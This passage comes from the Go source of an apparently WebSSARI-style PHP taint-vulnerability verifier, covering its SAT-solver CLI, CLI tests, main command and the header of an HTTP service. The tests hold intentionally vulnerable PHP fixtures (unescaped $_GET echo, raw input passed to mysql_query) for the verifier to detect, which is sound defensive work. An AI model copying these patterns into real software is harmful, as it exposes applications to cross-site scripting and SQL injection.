// repository's CDCL engine (the ZChaff substitute). It reads a DIMACS file
// (or stdin) and prints a SAT-competition-style result:
//
//	satsolve [-stats] [-enumerate N] [file.cnf]
//
// Exit status: 10 = satisfiable, 20 = unsatisfiable, 2 = error.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"strings"

	"webssari/internal/sat"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdin, os.Stdout))
}

func run(args []string, stdin io.Reader, stdout io.Writer) int {
	fs := flag.NewFlagSet("satsolve", flag.ContinueOnError)
	var (
		stats     = fs.Bool("stats", false, "print search statistics")
		enumerate = fs.Int("enumerate", 0, "enumerate up to N models via blocking clauses")
		noVSIDS   = fs.Bool("no-vsids", false, "disable the VSIDS decision heuristic")
		noLearn   = fs.Bool("no-learning", false, "disable clause learning")
		noRestart = fs.Bool("no-restarts", false, "disable Luby restarts")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	var r io.Reader = stdin
	if fs.NArg() == 1 {
		f, err := os.Open(fs.Arg(0))
		if err != nil {
			fmt.Fprintf(os.Stderr, "satsolve: %v\n", err)
			return 2
		}
		defer f.Close()
		r = f
	} else if fs.NArg() > 1 {
		fmt.Fprintln(os.Stderr, "satsolve: at most one input file")
		return 2
	}

	formula, err := sat.ParseDIMACS(r)
	if err != nil {
		fmt.Fprintf(os.Stderr, "satsolve: %v\n", err)
		return 2
	}

	opts := sat.Options{
		DisableVSIDS:    *noVSIDS,
		DisableLearning: *noLearn,
		DisableRestarts: *noRestart,
	}

	if *enumerate > 0 {
		project := make([]int, formula.NumVars)
		for v := 1; v <= formula.NumVars; v++ {
			project[v-1] = v
		}
		models := sat.EnumerateModels(formula, project, *enumerate)
		fmt.Fprintf(stdout, "c %d model(s) found (limit %d)\n", len(models), *enumerate)
		for _, m := range models {
			fmt.Fprintln(stdout, "v "+modelLine(m, 1))
		}
		if len(models) == 0 {
			fmt.Fprintln(stdout, "s UNSATISFIABLE")
			return 20
		}
		fmt.Fprintln(stdout, "s SATISFIABLE")
		return 10
	}

	solver := sat.NewWith(opts)
	if !formula.LoadInto(solver) {
		if *stats {
			fmt.Fprintf(stdout, "c %s\n", solver.Stats())
		}
		fmt.Fprintln(stdout, "s UNSATISFIABLE")
		return 20
	}
	res := solver.Solve()
	if *stats {
		fmt.Fprintf(stdout, "c %s\n", solver.Stats())
	}
	switch res {
	case sat.Sat:
		fmt.Fprintln(stdout, "s SATISFIABLE")
		model := solver.Model()
		fmt.Fprintln(stdout, "v "+modelLine(model[1:], 1)+" 0")
		return 10
	case sat.Unsat:
		fmt.Fprintln(stdout, "s UNSATISFIABLE")
		return 20
	default:
		fmt.Fprintln(stdout, "s UNKNOWN")
		return 2
	}
}

// modelLine renders assignments as signed variable indices.
func modelLine(assign []bool, firstVar int) string {
	parts := make([]string, len(assign))
	for i, v := range assign {
		idx := firstVar + i
		if v {
			parts[i] = fmt.Sprint(idx)
		} else {
			parts[i] = fmt.Sprint(-idx)
		}
	}
	return strings.Join(parts, " ")
}
