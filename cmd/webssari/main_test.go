package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func writeTemp(t *testing.T, name, src string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestVerifyVulnerableExitCode(t *testing.T) {
	path := writeTemp(t, "v.php", `<?php echo $_GET['x']; ?>`)
	if code := run([]string{path}); code != 1 {
		t.Fatalf("exit = %d, want 1 (vulnerable)", code)
	}
}

func TestVerifySafeExitCode(t *testing.T) {
	path := writeTemp(t, "s.php", `<?php echo htmlspecialchars($_GET['x']); ?>`)
	if code := run([]string{path}); code != 0 {
		t.Fatalf("exit = %d, want 0 (safe)", code)
	}
}

func TestJSONOutput(t *testing.T) {
	path := writeTemp(t, "v.php", `<?php echo $_GET['x']; ?>`)
	if code := run([]string{"-json", path}); code != 1 {
		t.Fatalf("exit = %d", code)
	}
}

func TestPatchWritesSecuredFile(t *testing.T) {
	path := writeTemp(t, "v.php", `<?php $q = $_GET['x']; mysql_query($q); ?>`)
	if code := run([]string{"-patch", path}); code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
	secured := strings.TrimSuffix(path, ".php") + ".secured.php"
	data, err := os.ReadFile(secured)
	if err != nil {
		t.Fatalf("secured copy missing: %v", err)
	}
	if !strings.Contains(string(data), "websafe(") {
		t.Fatalf("secured copy lacks guards:\n%s", data)
	}
	// The secured copy itself must verify clean.
	if code := run([]string{secured}); code != 0 {
		t.Fatalf("secured copy exit = %d, want 0", code)
	}
}

func TestSinkFlag(t *testing.T) {
	path := writeTemp(t, "v.php", `<?php DoSQL("X" . $_GET['x']); ?>`)
	if code := run([]string{path}); code != 0 {
		t.Fatalf("without sink flag: exit = %d, want 0", code)
	}
	if code := run([]string{"-sink", "DoSQL:1", path}); code != 1 {
		t.Fatalf("with sink flag: exit = %d, want 1", code)
	}
	if code := run([]string{"-sink", "DoSQL", path}); code != 1 {
		t.Fatalf("all-args sink flag: exit = %d, want 1", code)
	}
	if code := run([]string{"-sink", "DoSQL:x", path}); code != 2 {
		t.Fatalf("malformed sink flag: exit = %d, want 2", code)
	}
}

func TestPreludeFlag(t *testing.T) {
	pre := writeTemp(t, "extra.prelude", "sink DoSQL tainted 1\n")
	php := writeTemp(t, "v.php", `<?php DoSQL("X" . $_POST['y']); ?>`)
	if code := run([]string{"-prelude", pre, php}); code != 1 {
		t.Fatalf("prelude flag: exit = %d, want 1", code)
	}
	if code := run([]string{"-prelude", "/nonexistent", php}); code != 2 {
		t.Fatalf("missing prelude: exit = %d, want 2", code)
	}
}

func TestIncludesResolvedRelativeToFile(t *testing.T) {
	dir := t.TempDir()
	lib := filepath.Join(dir, "lib.php")
	main := filepath.Join(dir, "main.php")
	if err := os.WriteFile(lib, []byte(`<?php function show($m) { echo $m; }`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(main, []byte(`<?php include 'lib.php'; show($_GET['m']);`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code := run([]string{main}); code != 1 {
		t.Fatalf("cross-file taint: exit = %d, want 1", code)
	}
}

func TestNoInputs(t *testing.T) {
	if code := run(nil); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}

func TestMissingInput(t *testing.T) {
	if code := run([]string{"/no/such/file.php"}); code != 2 {
		t.Fatalf("exit = %d, want 2", code)
	}
}

// TestParallelDeadlineExitsIncomplete: deadline expiry while the worker
// pool is saturated must degrade to exit code 3 (incomplete), not
// deadlock and not claim the project safe.
func TestParallelDeadlineExitsIncomplete(t *testing.T) {
	dir := t.TempDir()
	for i := 0; i < 6; i++ {
		name := filepath.Join(dir, fmt.Sprintf("f%d.php", i))
		src := fmt.Sprintf("<?php\n$v = $_GET['k%d'];\necho $v;\n", i)
		if err := os.WriteFile(name, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	done := make(chan int, 1)
	go func() { done <- run([]string{"-j", "8", "-timeout", "1ns", dir}) }()
	select {
	case code := <-done:
		if code != 3 {
			t.Fatalf("exit = %d, want 3 (incomplete)", code)
		}
	case <-time.After(2 * time.Minute):
		t.Fatal("run deadlocked under mid-pool deadline expiry")
	}
}

// TestParallelFlagMatchesSequentialExit: -j changes scheduling, never
// verdicts.
func TestParallelFlagMatchesSequentialExit(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.php"), []byte(`<?php echo $_GET['x'];`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "b.php"), []byte(`<?php echo htmlspecialchars($_GET['x']);`), 0o644); err != nil {
		t.Fatal(err)
	}
	seq := run([]string{dir})
	par := run([]string{"-j", "8", "-v", dir})
	if seq != par {
		t.Fatalf("sequential exit %d != parallel exit %d", seq, par)
	}
	if seq != 1 {
		t.Fatalf("exit = %d, want 1", seq)
	}
}

func TestFigure10Flag(t *testing.T) {
	if testing.Short() {
		t.Skip("figure10 run is slow")
	}
	if code := run([]string{"-figure10", "-scale", "0.002"}); code != 0 {
		t.Fatalf("exit = %d, want 0", code)
	}
}

func TestPaperAndUnrollFlags(t *testing.T) {
	path := writeTemp(t, "v.php", "<?php\n$x = $_GET['q'];\necho $x;\necho $x;")
	if code := run([]string{"-paper", "-unroll", "2", path}); code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
}

func TestHTMLFlag(t *testing.T) {
	php := writeTemp(t, "v.php", `<?php echo $_GET['x']; ?>`)
	out := filepath.Join(t.TempDir(), "report.html")
	if code := run([]string{"-html", out, php}); code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatalf("HTML report missing: %v", err)
	}
	if !strings.Contains(string(data), "<!DOCTYPE html>") {
		t.Fatalf("not an HTML report")
	}
}

func TestDirectoryArgument(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.php"), []byte(`<?php echo $_GET['x'];`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "b.php"), []byte(`<?php echo 'safe';`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code := run([]string{dir}); code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
	clean := t.TempDir()
	if err := os.WriteFile(filepath.Join(clean, "c.php"), []byte(`<?php echo 'ok';`), 0o644); err != nil {
		t.Fatal(err)
	}
	if code := run([]string{clean}); code != 0 {
		t.Fatalf("clean project exit = %d, want 0", code)
	}
}

// TestTraceAndMetricsFlags checks the CLI's observability wiring: the
// trace file is valid Chrome trace-event JSON covering the pipeline, and
// the metrics server accepts an ephemeral bind.
func TestTraceAndMetricsFlags(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.php"), []byte(`<?php echo $_GET['x'];`), 0o644); err != nil {
		t.Fatal(err)
	}
	tracePath := filepath.Join(t.TempDir(), "out.json")
	if code := run([]string{"-trace", tracePath, "-metrics-addr", ":0", "-v", dir}); code != 1 {
		t.Fatalf("exit = %d, want 1", code)
	}
	data, err := os.ReadFile(tracePath)
	if err != nil {
		t.Fatalf("trace not written: %v", err)
	}
	var trace struct {
		TraceEvents []struct {
			Name string `json:"name"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &trace); err != nil {
		t.Fatalf("trace is not valid JSON: %v", err)
	}
	names := map[string]int{}
	for _, ev := range trace.TraceEvents {
		names[ev.Name]++
	}
	for _, stage := range []string{"parse", "solve", "verify_file", "verify_dir"} {
		if names[stage] == 0 {
			t.Errorf("no %q spans in trace (%v)", stage, names)
		}
	}
}

// TestStoreFlag runs the same file twice against one persistent store:
// same exit code, populated store root.
func TestStoreFlag(t *testing.T) {
	path := writeTemp(t, "v.php", `<?php echo $_GET['x']; ?>`)
	storeRoot := filepath.Join(t.TempDir(), "cache")
	if code := run([]string{"-store", storeRoot, path}); code != 1 {
		t.Fatalf("cold run exit = %d, want 1", code)
	}
	var blobs int
	err := filepath.WalkDir(filepath.Join(storeRoot, "objects"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			blobs++
		}
		return err
	})
	if err != nil || blobs == 0 {
		t.Fatalf("store not populated: %d blobs, err %v", blobs, err)
	}
	if code := run([]string{"-store", storeRoot, path}); code != 1 {
		t.Fatalf("warm run exit = %d, want 1", code)
	}
	if code := run([]string{"-store", storeRoot, "-json", path}); code != 1 {
		t.Fatalf("warm JSON run exit = %d, want 1", code)
	}
}

// TestVersionFlagExitsClean checks -version short-circuits before any
// input handling.
func TestVersionFlagExitsClean(t *testing.T) {
	if code := run([]string{"-version"}); code != 0 {
		t.Fatalf("-version exited %d", code)
	}
}
