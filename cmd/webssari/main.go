// Command webssari verifies PHP web applications against taint-style
// vulnerabilities with bounded model checking and optionally patches them
// with sanitization runtime guards — the end-to-end WebSSARI tool of the
// paper (Figure 8).
//
// Usage:
//
//	webssari [flags] file.php...     verify (and with -patch, secure) files
//	webssari -figure10 [flags]       regenerate the paper's Figure 10 table
//
// Flags:
//
//	-patch            write secured copies next to the inputs (.secured.php)
//	-json             emit machine-readable reports
//	-policy P         security policy: a built-in name
//	                  (default|xss-context|ssrf) or a policy JSON file;
//	                  the default is the paper's XSS/SQL/injection prelude
//	-prelude FILE     merge an extra prelude file (sinks/sources/sanitizers)
//	-sink NAME[:n,m]  register an extra sensitive function
//	-unroll N         loop deconstruction factor (default 1, the paper's)
//	-paper            use the paper's exact enumeration (§3.3.2)
//	-timeout D        wall-clock deadline per verification unit (e.g. 30s)
//	-max-conflicts N  SAT conflict budget per solver call (0 = unlimited)
//	-solver-mode M    solver dispatch mode: per-assert (default), shared
//	                  (one incremental solver per file, learnt clauses
//	                  accumulate across assertions), or portfolio (race
//	                  K solver configurations per hard assertion)
//	-portfolio N      portfolio lane count raced per hard assertion
//	-warm-start       persist the shared solver's learnt clauses in the
//	                  result store and re-import them on re-verification
//	                  (requires -solver-mode shared and -store)
//	-solver-stats     print per-input solver statistics to stderr: mode,
//	                  search effort, warm-start hit/miss with clause
//	                  counts, portfolio races and winning lanes
//	-j N              verification worker count (default GOMAXPROCS)
//	-v                print the run profile (stage wall times, solver
//	                  effort, cache and pool stats) to stderr
//	-trace FILE       write Chrome trace-event JSON of every pipeline span
//	                  (written even when the run exits early on an error)
//	-metrics-addr A   serve Prometheus /metrics (plus /debug/vars,
//	                  /debug/pprof/, and the /debug/events flight
//	                  recorder) on A for the run; ":0" picks a port
//	-log-level L      structured log level: debug|info|warn|error
//	-log-format F     structured log encoding: text|json
//	-dump-ir          print each input's typed flow IR (internal/ir
//	                  textual form) and exit without solving anything
//	-figure10         run TS and BMC over the synthetic Figure 10 corpus
//	-scale F          corpus statement-scale for -figure10 (default 0.02)
//	-seed N           corpus generation seed
//	-store DIR        persist verification results under DIR so unchanged
//	                  files are re-verified from disk across runs
//	-incremental      directory inputs only, requires -store: maintain a
//	                  persistent include-dependency graph and re-verify
//	                  only files whose content or transitive includes
//	                  changed since the previous run
//	-version          print version and exit
//
// Exit codes: 0 every input verified safe, 1 at least one vulnerability
// found, 3 no vulnerability found but verification was incomplete
// (deadline, budget, or resource ceiling), 2 an analysis error.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"

	"webssari"
	"webssari/internal/buildinfo"
	"webssari/internal/core"
	"webssari/internal/corpus"
	"webssari/internal/ir"
	"webssari/internal/telemetry"
)

// Exit codes, by precedence: an error outranks a finding, a finding
// outranks an incomplete run, which outranks safe.
const (
	exitSafe       = 0
	exitUnsafe     = 1
	exitError      = 2
	exitIncomplete = 3
)

// worse merges an exit code into the accumulated one, keeping the more
// severe of the two (error > unsafe > incomplete > safe).
func worse(cur, next int) int {
	rank := map[int]int{exitSafe: 0, exitIncomplete: 1, exitUnsafe: 2, exitError: 3}
	if rank[next] > rank[cur] {
		return next
	}
	return cur
}

// verdictExit maps a report verdict to its exit code.
func verdictExit(verdict string) int {
	switch verdict {
	case webssari.VerdictUnsafe:
		return exitUnsafe
	case webssari.VerdictIncomplete:
		return exitIncomplete
	default:
		return exitSafe
	}
}

func main() {
	os.Exit(run(os.Args[1:]))
}

func run(args []string) int {
	fs := flag.NewFlagSet("webssari", flag.ContinueOnError)
	var (
		patch    = fs.Bool("patch", false, "write secured copies of vulnerable files")
		jsonOut  = fs.Bool("json", false, "emit JSON reports")
		htmlOut  = fs.String("html", "", "write a cross-referenced HTML report to this file")
		policyF  = fs.String("policy", "", "security policy: a built-in name or a policy JSON file")
		preludeF = fs.String("prelude", "", "extra prelude file to merge")
		sinks    multiFlag
		unroll   = fs.Int("unroll", 1, "loop deconstruction factor")
		paper    = fs.Bool("paper", false, "paper-exact counterexample enumeration")
		timeout  = fs.Duration("timeout", 0, "wall-clock deadline per verification unit (0 = none)")
		maxConf  = fs.Uint64("max-conflicts", 0, "SAT conflict budget per solver call (0 = unlimited)")
		solverM  = fs.String("solver-mode", "", "solver dispatch mode: per-assert|shared|portfolio")
		portfol  = fs.Int("portfolio", 0, "portfolio lane count raced per hard assertion (0 = engine default)")
		warm     = fs.Bool("warm-start", false, "persist and re-import learnt clauses across runs (shared mode, requires -store)")
		solverSt = fs.Bool("solver-stats", false, "print per-input solver statistics (mode, effort, warm start, races) to stderr")
		jobs     = fs.Int("j", 0, "verification worker count (0 = GOMAXPROCS)")
		verbose  = fs.Bool("v", false, "print the run profile to stderr")
		traceF   = fs.String("trace", "", "write Chrome trace-event JSON to this file")
		metrics  = fs.String("metrics-addr", "", "serve /metrics, /debug/vars, /debug/pprof on this address (\":0\" picks a free port)")
		logLevel = fs.String("log-level", "info", "structured log level: debug|info|warn|error")
		logFmt   = fs.String("log-format", "text", "structured log encoding: text|json")
		fig10    = fs.Bool("figure10", false, "regenerate the Figure 10 table")
		scale    = fs.Float64("scale", 0.02, "corpus statement scale for -figure10")
		seed     = fs.Uint64("seed", 2004, "corpus generation seed")
		dumpIR   = fs.Bool("dump-ir", false, "print each input's typed flow IR and exit (no solving)")
		storeDir = fs.String("store", "", "persistent result store directory (\"\" disables)")
		incr     = fs.Bool("incremental", false, "delta re-verification for directory inputs (requires -store)")
		version  = fs.Bool("version", false, "print version and exit")
	)
	fs.Var(&sinks, "sink", "extra sink, NAME or NAME:argpos[,argpos...] (repeatable)")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		fmt.Println(buildinfo.Version("webssari"))
		return 0
	}

	if *fig10 {
		return runFigure10(*scale, *seed)
	}
	if fs.NArg() == 0 {
		fmt.Fprintln(os.Stderr, "webssari: no input files (try -figure10 or pass .php files)")
		return 2
	}

	if *jobs < 0 {
		fmt.Fprintf(os.Stderr, "webssari: -j must be ≥ 0, got %d\n", *jobs)
		return 2
	}

	if *dumpIR {
		for _, target := range fs.Args() {
			if err := ir.DumpTree(os.Stdout, os.Stderr, target); err != nil {
				fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
				return 2
			}
		}
		return 0
	}

	if *incr && *storeDir == "" {
		fmt.Fprintln(os.Stderr, "webssari: -incremental requires -store (the dependency graph lives in the result store)")
		return 2
	}

	opts := []webssari.Option{webssari.WithLoopUnroll(*unroll)}
	if *policyF != "" {
		// A readable file is a policy JSON declaration; anything else must
		// name a built-in policy.
		if data, err := os.ReadFile(*policyF); err == nil {
			opts = append(opts, webssari.WithPolicyJSON(*policyF, data))
		} else {
			opts = append(opts, webssari.WithPolicy(*policyF))
		}
	}
	if *storeDir != "" {
		st, err := webssari.OpenStore(*storeDir, 0)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssari: opening store: %v\n", err)
			return 2
		}
		opts = append(opts, webssari.WithStore(st))
	}
	if *incr {
		opts = append(opts, webssari.WithIncremental())
	}
	lvl, err := telemetry.ParseLogLevel(*logLevel)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
		return 2
	}
	logger, err := telemetry.NewLogger(os.Stderr, lvl, *logFmt, telemetry.DefaultFlightRecorderSize)
	if err != nil {
		fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
		return 2
	}
	var tel *webssari.Telemetry
	if *traceF != "" || *metrics != "" {
		tel = webssari.NewTelemetry()
		tel.Logs = logger.Recorder()
		opts = append(opts, webssari.WithTelemetry(tel))
	}
	if *traceF != "" {
		// Registered before anything below that can fail and return early
		// (the metrics listener, prelude reads, …) so an aborted run still
		// leaves a trace file of whatever spans were recorded.
		defer func() {
			f, err := os.Create(*traceF)
			if err == nil {
				err = webssari.WriteTrace(tel, f)
				if cerr := f.Close(); err == nil {
					err = cerr
				}
			}
			if err != nil {
				fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
			}
		}()
	}
	if *metrics != "" {
		srv, err := webssari.ServeMetrics(*metrics, tel)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
			return 2
		}
		defer srv.Close()
		fmt.Fprintf(os.Stderr, "webssari: metrics served at http://%s/metrics\n", srv.Addr)
	}
	if *jobs > 0 {
		opts = append(opts, webssari.WithParallelism(*jobs))
	}
	if *paper {
		opts = append(opts, webssari.WithPaperEnumeration())
	}
	if *timeout > 0 {
		opts = append(opts, webssari.WithDeadline(*timeout))
	}
	if *maxConf > 0 {
		opts = append(opts, webssari.WithBudget(*maxConf))
	}
	if *warm && *storeDir == "" {
		fmt.Fprintln(os.Stderr, "webssari: -warm-start requires -store (learnt clauses persist in the result store)")
		return 2
	}
	if *solverM != "" || *portfol != 0 || *warm {
		opts = append(opts, webssari.WithSolverConfig(webssari.SolverConfig{
			Mode:      webssari.SolverMode(*solverM),
			Portfolio: *portfol,
			WarmStart: *warm,
		}))
	}
	if *preludeF != "" {
		text, err := os.ReadFile(*preludeF)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
			return 2
		}
		opts = append(opts, webssari.WithExtraPrelude(string(text)))
	}
	for _, s := range sinks {
		name, argSpec, _ := strings.Cut(s, ":")
		var argPos []int
		if argSpec != "" {
			for _, part := range strings.Split(argSpec, ",") {
				n, err := strconv.Atoi(part)
				if err != nil {
					fmt.Fprintf(os.Stderr, "webssari: bad -sink %q: %v\n", s, err)
					return 2
				}
				argPos = append(argPos, n)
			}
		}
		opts = append(opts, webssari.WithSink(name, argPos...))
	}

	exit := 0
	for _, file := range fs.Args() {
		logger.Debug("verifying", "file", file)
		if info, err := os.Stat(file); err == nil && info.IsDir() {
			// Whole-project verification: one report per PHP file plus the
			// Figure 10-style project totals.
			pr, err := webssari.VerifyDir(file, opts...)
			if err != nil {
				fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
				exit = worse(exit, exitError)
				continue
			}
			for _, rep := range pr.Files {
				if !rep.Safe {
					printReport(rep, *jsonOut)
				}
			}
			for _, fail := range pr.Failures {
				fmt.Fprintf(os.Stderr, "webssari: %s: %s stage: %s\n",
					fail.File, fail.Stage, fail.Cause)
			}
			fmt.Printf("project %s: %d file(s), %d vulnerable, %d incomplete, %d failed; TS symptoms %d, BMC groups %d\n",
				file, len(pr.Files), pr.VulnerableFiles, pr.IncompleteFiles,
				len(pr.Failures), pr.Symptoms, pr.Groups)
			if *verbose && pr.Profile != nil {
				fmt.Fprintf(os.Stderr, "webssari: %s: %s\n", file, pr.Profile)
			}
			if *solverSt {
				printSolverStats(file, pr.Profile)
			}
			exit = worse(exit, verdictExit(pr.Verdict()))
			continue
		}

		src, err := os.ReadFile(file)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
			exit = worse(exit, exitError)
			continue
		}
		fileOpts := append([]webssari.Option{webssari.WithDir(dirOf(file))}, opts...)

		if *patch {
			patched, rep, err := webssari.Patch(src, file, fileOpts...)
			if err != nil {
				fmt.Fprintf(os.Stderr, "webssari: %s: %v\n", file, err)
				exit = worse(exit, exitError)
				continue
			}
			printReport(rep, *jsonOut)
			if *verbose {
				printStats(file, rep)
			}
			if *solverSt {
				printSolverStats(file, rep.Profile)
			}
			if rep.Verdict == webssari.VerdictUnsafe {
				out := strings.TrimSuffix(file, ".php") + ".secured.php"
				if err := os.WriteFile(out, patched, 0o644); err != nil {
					fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
					exit = worse(exit, exitError)
					continue
				}
				fmt.Printf("secured copy written to %s (%d runtime guard(s))\n", out, rep.Groups)
			}
			exit = worse(exit, verdictExit(rep.Verdict))
			continue
		}

		if *htmlOut != "" {
			f, err := os.Create(*htmlOut)
			if err != nil {
				fmt.Fprintf(os.Stderr, "webssari: %v\n", err)
				return 2
			}
			rep, err := webssari.VerifyToHTML(src, file, f, fileOpts...)
			closeErr := f.Close()
			if err != nil {
				fmt.Fprintf(os.Stderr, "webssari: %s: %v\n", file, err)
				exit = worse(exit, exitError)
				continue
			}
			if closeErr != nil {
				fmt.Fprintf(os.Stderr, "webssari: %v\n", closeErr)
				exit = worse(exit, exitError)
				continue
			}
			fmt.Printf("HTML report written to %s\n", *htmlOut)
			exit = worse(exit, verdictExit(rep.Verdict))
			continue
		}

		rep, err := webssari.Verify(src, file, fileOpts...)
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssari: %s: %v\n", file, err)
			exit = worse(exit, exitError)
			continue
		}
		printReport(rep, *jsonOut)
		if *verbose {
			printStats(file, rep)
		}
		if *solverSt {
			printSolverStats(file, rep.Profile)
		}
		exit = worse(exit, verdictExit(rep.Verdict))
	}
	return exit
}

// printStats writes one file's run profile — stage wall times, solver
// effort, cache provenance — to stderr (the -v summary).
func printStats(file string, rep *webssari.Report) {
	if rep.Profile == nil {
		return
	}
	fmt.Fprintf(os.Stderr, "webssari: %s: %s\n", file, rep.Profile)
}

// printSolverStats writes one input's solver statistics — dispatch mode,
// search effort, and the warm-start / portfolio outcome — to stderr.
// It is the solver-focused subset of -v: stage wall times and cache
// provenance are omitted, so the line is stable enough to grep in CI.
func printSolverStats(file string, p *webssari.RunProfile) {
	if p == nil {
		return
	}
	if p.StoreHit {
		fmt.Fprintf(os.Stderr, "webssari: %s: served from result store (no solve)\n", file)
		return
	}
	mode := p.SolverMode
	if mode == "" {
		mode = "per-assert"
	}
	s := p.Solver
	line := fmt.Sprintf("webssari: %s: solver mode %s: %d decision(s), %d conflict(s), %d restart(s), %d learnt",
		file, mode, s.Decisions, s.Conflicts, s.Restarts, s.LearntClauses)
	if ws := p.WarmStart; ws != nil {
		state := "miss"
		switch {
		case ws.Hit:
			state = "hit"
		case !ws.Attempted:
			state = "cold"
		}
		line += fmt.Sprintf("; warm start %s (%d imported, %d exported)",
			state, ws.ImportedClauses, ws.ExportedClauses)
	}
	if pf := p.Portfolio; pf != nil && pf.Races > 0 {
		line += fmt.Sprintf("; %d portfolio race(s)", pf.Races)
		lanes := make([]string, 0, len(pf.WinsByLane))
		for lane := range pf.WinsByLane {
			lanes = append(lanes, lane)
		}
		sort.Strings(lanes)
		for _, lane := range lanes {
			line += fmt.Sprintf(" lane%s×%d", lane, pf.WinsByLane[lane])
		}
	}
	fmt.Fprintln(os.Stderr, line)
}

func dirOf(file string) string {
	if i := strings.LastIndexByte(file, '/'); i >= 0 {
		return file[:i]
	}
	return "."
}

func printReport(rep *webssari.Report, asJSON bool) {
	if asJSON {
		data, err := json.MarshalIndent(rep, "", "  ")
		if err == nil {
			fmt.Println(string(data))
		}
		return
	}
	fmt.Print(rep.Text)
}

// runFigure10 regenerates the paper's Figure 10: per-project TS- and
// BMC-reported error counts over the synthetic corpus.
func runFigure10(scale float64, seed uint64) int {
	fmt.Println("Figure 10: TS- and BMC-reported errors of the 38 acknowledged projects")
	fmt.Printf("%-40s %3s %6s %6s %6s\n", "Project", "A", "TS", "BMC", "paper")
	var totals corpus.Totals
	for _, prof := range corpus.Figure10() {
		prof.Files = maxInt(2, int(float64(prof.TS)*0.8))
		prof.Statements = maxInt(prof.TS*4+40, int(scale*4000))
		proj := corpus.Generate(prof, seed)
		stats, err := corpus.Run(proj, nil, core.Options{})
		if err != nil {
			fmt.Fprintf(os.Stderr, "webssari: %s: %v\n", prof.Name, err)
			return 2
		}
		totals.Accumulate(stats)
		fmt.Printf("%-40s %3d %6d %6d %3d/%d\n",
			prof.Name, prof.Activity, stats.TS, stats.BMC, prof.TS, prof.BMC)
	}
	fmt.Printf("%-40s %3s %6d %6d (paper: 980/578)\n", "Total", "", totals.TS, totals.BMC)
	fmt.Printf("instrumentation reduction: %.1f%% (paper: 41.0%%)\n", totals.Reduction()*100)
	return 0
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// multiFlag collects repeatable string flags.
type multiFlag []string

// String implements flag.Value.
func (m *multiFlag) String() string { return strings.Join(*m, ",") }

// Set implements flag.Value.
func (m *multiFlag) Set(v string) error {
	*m = append(*m, v)
	return nil
}
