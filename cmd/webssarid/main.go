// Command webssarid is the WebSSARI verification service: the engine of
// cmd/webssari behind an HTTP/JSON API, with a bounded job queue, NDJSON
// result streaming, and an optional persistent result store so repeated
// submissions of unchanged code answer from disk across restarts.
//
// Usage:
//
//	webssarid [flags]
//
// Flags:
//
//	-addr A            listen address for the API (default :8722; ":0"
//	                   picks a free port, printed to stderr)
//	-store DIR         persistent result store directory ("" disables)
//	-store-max-bytes N store size budget before LRU GC (0 = default
//	                   256 MiB, negative = unbounded)
//	-queue N           submission queue depth; a full queue answers 429
//	-workers N         concurrently running jobs (0 = GOMAXPROCS)
//	-j N               per-job verification parallelism (0 = engine default)
//	-timeout D         wall-clock deadline per verification unit
//	-max-conflicts N   SAT conflict budget per solver call (0 = unlimited)
//	-no-dirs           reject directory submissions (clients may then only
//	                   POST source text)
//	-incremental       default directory jobs to delta re-verification via
//	                   the persistent dependency graph (requires -store;
//	                   per-job "incremental" overrides this)
//	-watch-interval D  snapshot poll interval for watch-mode directory
//	                   jobs (default 2s)
//	-grace D           shutdown grace period for draining jobs (default 30s)
//	-metrics-addr A    serve /metrics, /debug/vars, /debug/pprof on a
//	                   second address (the API itself always has /metrics)
//	-version           print version and exit
//
// API (JSON unless noted):
//
//	POST /v1/files            {"name","source"[,"dir"]} → 202 {job,status,result,stream}
//	POST /v1/dirs             {"dir"[,"incremental","watch","watch_interval_ms"]} → 202
//	GET  /v1/jobs             recent jobs, newest first
//	GET  /v1/jobs/{id}        one job's status
//	DELETE /v1/jobs/{id}      cancel a queued, running, or watch job
//	GET  /v1/jobs/{id}/result finished report (409 while running; ?text=1
//	                          for the human rendering of a file job)
//	GET  /v1/jobs/{id}/stream NDJSON, one report per file as it completes
//	                          (watch jobs add one summary line per round)
//	GET  /v1/version          build and schema version
//	GET  /healthz             liveness and queue occupancy
